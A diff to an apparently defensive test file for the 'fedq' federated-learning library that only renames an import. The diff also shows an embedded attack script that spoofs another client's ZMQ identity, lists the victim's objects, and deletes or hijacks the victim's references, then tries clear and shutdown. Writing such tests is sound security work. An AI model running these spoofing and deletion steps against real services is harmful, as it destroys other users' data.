@@ -26,7 +26,7 @@ ROOT = Path(__file__).resolve().parent.parent
 
 ATTACK = """
 import json, sys, torch as th, fedq as sy
-from fedq import wire
+from fedq import messages as msg
 from fedq.errors import FedqError
 address, victim_id, victim_holder = sys.argv[1], int(sys.argv[2]), sys.argv[3]
 hook = sy.TorchHook(th)
@@ -70,17 +70,17 @@ spoof = zmq.Context.instance().socket(zmq.DEALER)
 spoof.setsockopt(zmq.ROUTING_ID, (victim_holder + "#spoofed").encode())
 spoof.setsockopt(zmq.LINGER, 0)
 spoof.connect(address)
-spoof.send_multipart(client.codec.encode(1, wire.DescribeObjects(), w.incarnation))
+spoof.send_multipart(client.codec.encode(1, msg.DescribeObjects(), w.incarnation))
 assert spoof.poll(20000)
 _, answer = client.codec.decode(spoof.recv_multipart())
 out["spoofed_listing"] = [row.id for row in answer.value]
 out["holder_names"] = sorted({name for row in answer.value for name, _ in row.holders})
-spoof.send_multipart(client.codec.encode(2, wire.DeleteObjects((victim_id,)), w.incarnation))
+spoof.send_multipart(client.codec.encode(2, msg.DeleteObjects((victim_id,)), w.incarnation))
 spoof.poll(20000)
 # Another client's object, by an id learned out of band: delete it, or take its reference.
-client.request(w.address, wire.DeleteObjects((victim_id,)))
-client.request(w.address, wire.DeleteObjects((), ((victim_id, victim_holder, client.name),)))
-client.request(w.address, wire.DeleteObjects((victim_id,)))
+client.request(w.address, msg.DeleteObjects((victim_id,)))
+client.request(w.address, msg.DeleteObjects((), ((victim_id, victim_holder, client.name),)))
+client.request(w.address, msg.DeleteObjects((victim_id,)))
 attempt("clear_objects", lambda: w.clear_objects())
 out["listed_after_clear"] = sorted(w._objects)
 attempt("shutdown", lambda: w.shutdown(timeout=5))
